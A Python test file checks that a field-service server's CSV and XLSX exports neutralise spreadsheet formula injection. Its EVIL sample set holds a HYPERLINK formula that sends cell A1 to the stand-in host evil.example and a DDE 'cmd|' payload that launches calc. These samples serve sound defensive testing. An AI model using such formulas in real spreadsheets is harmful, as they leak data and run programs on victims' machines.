"""Formula injection (issue 13, item 2): every text cell of every CSV and XLSX export is written as text
and neutralised, so a spreadsheet never runs what an engineer, customer or store name says.

A text that starts with ``=``, ``+``, ``-``, ``@``, tab or carriage return is a formula to Excel and
LibreOffice (``=HYPERLINK(...)`` leaks the sheet; ``=cmd|...`` runs a program on old versions). The one
home for what an export writes, ``server.reports.exports.cell_text``, puts a ``'`` before such text and
drops the control characters an XLSX cannot hold. Checked two ways: a property over random text through
the writers, and hostile names and causes entered through the API and read back from every export.
"""

from __future__ import annotations

import csv
import io
import re
import uuid
from datetime import UTC, datetime, timedelta
from typing import Any

from hypothesis import Phase, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from server.reports.exports import Table, to_csv, to_xlsx_book
from shared.enums import JobEventType
from tests.conftest import DeviceFactory
from tests.properties import examples
from tests.server.test_console_api import _worked_job
from tests.support import World

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
CONTROL = {chr(c) for c in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F)}


NUMBER = re.compile(r"-?\d+(\.\d+)?(e[+-]?\d+)?")


def _is_safe(text: str) -> bool:
    return not text.startswith(FORMULA_START) and not (set(text) & CONTROL)


def _csv_safe(text: str) -> bool:
    """A CSV cell is safe text, or a number (a negative one starts with '-' and stays a number)."""
    return _is_safe(text) or NUMBER.fullmatch(text) is not None


def _csv_cells(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _xlsx_cells(content: bytes) -> list[tuple[str, list[Any]]]:
    """(sheet title, cells) of every sheet; a cell that is a formula fails here."""
    book = load_workbook(io.BytesIO(content))
    out = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
        out.append((sheet.title, [list(r) for r in sheet.iter_rows(values_only=True)]))
    return out


hostile = st.one_of(
    st.text(),
    st.builds(
        lambda head, tail: head + tail, st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\x01="]), st.text()
    ),
)
cells = st.one_of(
    hostile, st.integers(-(10**6), 10**6), st.floats(allow_nan=False, allow_infinity=False), st.none()
)


@st.composite
def tables(draw: st.DrawFn) -> tuple[list[str], list[list[Any]]]:
    """Headers and rows of one width, as the reports make them."""
    width = draw(st.integers(1, 4))
    headers = draw(st.lists(hostile, min_size=width, max_size=width))
    rows = draw(st.lists(st.lists(cells, min_size=width, max_size=width), max_size=5))
    return headers, rows


@given(title=hostile, table=tables(), note=hostile, filters=st.lists(st.tuples(hostile, hostile), max_size=2))
@settings(
    max_examples=examples(60), phases=[Phase.explicit, Phase.generate]
)  # a workbook per shrink step is slow
def test_every_text_cell_the_writers_emit_is_plain_safe_text(
    title: str, table: tuple[list[str], list[list[Any]]], note: str, filters: list[tuple[str, str]]
) -> None:
    headers, rows = table
    table = Table(title=title or "t", headers=headers, rows=rows, note=note)
    written = _csv_cells(to_csv(table))
    for row in written:
        assert all(_csv_safe(cell) for cell in row), row
    for row, original in zip(written[1:], rows, strict=False):  # a text that looks like a number stays text
        for cell, value in zip(row, original, strict=False):
            assert not isinstance(value, str) or _is_safe(cell), (cell, value)
    for _, sheet in _xlsx_cells(to_xlsx_book([table], filters)):
        for row in sheet:
            for value in row:
                assert not isinstance(value, str) or _is_safe(value), (value, row)
        # numbers stay numbers: a spreadsheet can still compute with them
        numbers = [v for r in rows for v in r if isinstance(v, int | float) and not isinstance(v, bool)]
        found = [v for r in sheet for v in r if isinstance(v, int | float)]
        assert len(found) >= len(numbers)


def test_the_neutralised_text_keeps_what_was_written() -> None:
    table = Table(
        title="t", headers=["原因"], rows=[['=HYPERLINK("http://x","看")'], ["-3 度"], ["漏水\x1b"]]
    )
    assert _csv_cells(to_csv(table))[1:] == [['\'=HYPERLINK("http://x","看")'], ["'-3 度"], ["漏水"]]


EVIL = {
    "customer": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "symptom": "@SUM(1+1)*cmd|' /C calc'!A0",
    "cause": "\t=1+1",
    "part": "+1-2",
    "store": "-2+3",
}


async def _hostile_world(world: World, new_device: DeviceFactory) -> dict[str, str]:
    admin = await world.login("admin")
    r = await world.client.post("/api/customers", json={"name": EVIL["customer"]}, headers=admin)
    assert r.status_code == 201, r.text
    customer = r.json()["id"]
    r = await world.client.post("/api/sites", json={"customer_id": customer, "name": "泵站"}, headers=admin)
    site = r.json()["id"]
    r = await world.client.post(
        "/api/equipment",
        json={"site_id": site, "category": "drainage_pump", "model": "QW-1", "serial_no": "E-1"},
        headers=admin,
    )
    equipment = r.json()["id"]
    job = await world.create_job(
        engineer="eng1", customer_id=customer, site_id=site, equipment_id=equipment, symptom=EVIL["symptom"]
    )
    device = await new_device("eng1")
    await device.sync()
    device.actions.tap(uuid.UUID(job["id"]), JobEventType.ACKNOWLEDGED)
    device.actions.edit(uuid.UUID(job["id"]), cause=EVIL["cause"])
    await device.sync()
    await _worked_job(world, device)
    r = await world.client.post(
        "/api/parts", json={"code": "P-EVIL", "name": EVIL["part"], "unit": "套"}, headers=admin
    )
    assert r.status_code == 201, r.text
    part = r.json()["id"]
    r = await world.client.post(
        "/api/stock/stores", json={"kind": "new", "name": EVIL["store"]}, headers=admin
    )
    assert r.status_code == 201, r.text
    r = await world.client.post(
        "/api/stock/receipts",
        json={"store_id": r.json()["id"], "part_id": part, "quantity": 3, "unit_cost": 10, "reference": "=1"},
        headers=admin,
    )
    assert r.status_code == 201, r.text
    return {"job": job["number"], "customer": customer}


EXPORTS = [
    *(
        f"/api/exports/{name}.{fmt}"
        for name in ("response-times", "sla", "breaches", "quality", "feedback")
        for fmt in ("csv", "xlsx")
    ),
    "/api/reports/inspections.csv",
    "/api/reports/inspections.xlsx",
    *(f"/api/reports/parts/export/parts.csv?table={t}" for t in ("stores", "engineers", "jobs")),
    "/api/reports/parts/export/parts.xlsx",
]


async def test_hostile_text_entered_through_the_api_leaves_every_export_as_safe_text(
    world: World, new_device: DeviceFactory
) -> None:
    made = await _hostile_world(world, new_device)
    headers = await world.login("admin")
    later = (datetime.now(UTC) + timedelta(days=3)).isoformat()
    month = datetime.now(UTC).strftime("%Y-%m")
    seen: dict[str, list[list[Any]]] = {}
    for url in EXPORTS:
        params: dict[str, str] = {"now": later} if "/exports/" in url else {}
        if "inspections" in url:
            params["month"] = month
        r = await world.client.get(url, params=params, headers=headers)
        assert r.status_code == 200, (url, r.text[:300])
        if ".csv" in url:
            rows = _csv_cells(r.content)
            seen[url] = [list(row) for row in rows]
        else:
            seen[url] = [row for _, sheet in _xlsx_cells(r.content) for row in sheet]
        safe = _csv_safe if ".csv" in url else _is_safe
        for row in seen[url]:
            for value in row:
                assert not isinstance(value, str) or safe(value), (url, value, row)
    texts = {url: {v for row in rows for v in row if isinstance(v, str)} for url, rows in seen.items()}
    # The hostile values are there, neutralised, not dropped: the exports still say what was entered.
    assert "'" + EVIL["symptom"] in texts["/api/exports/feedback.csv"] | texts[
        "/api/exports/feedback.xlsx"
    ] or ("'" + EVIL["cause"] in texts["/api/exports/feedback.xlsx"])
    for url in ("/api/exports/breaches.csv", "/api/exports/breaches.xlsx"):
        assert "'" + EVIL["customer"] in texts[url], (url, seen[url][:12])
    assert "'" + EVIL["part"] in texts["/api/reports/parts/export/parts.xlsx"]
    assert "'" + EVIL["store"] in texts["/api/reports/parts/export/parts.xlsx"]
    # The four report workbooks carry their rows, not only a header: the job in the breaches, the
    # repair in the quality figures, the promises in the SLA sheet.
    assert made["job"] in texts["/api/exports/breaches.xlsx"]
    quality = {row[0]: row[1] for row in seen["/api/exports/quality.xlsx"] if row and len(row) > 1}
    assert quality["已修复的报修单"] == 1, quality
    sla = seen["/api/exports/sla.xlsx"]
    assert any(isinstance(v, int) and v > 0 for row in sla for v in row), sla
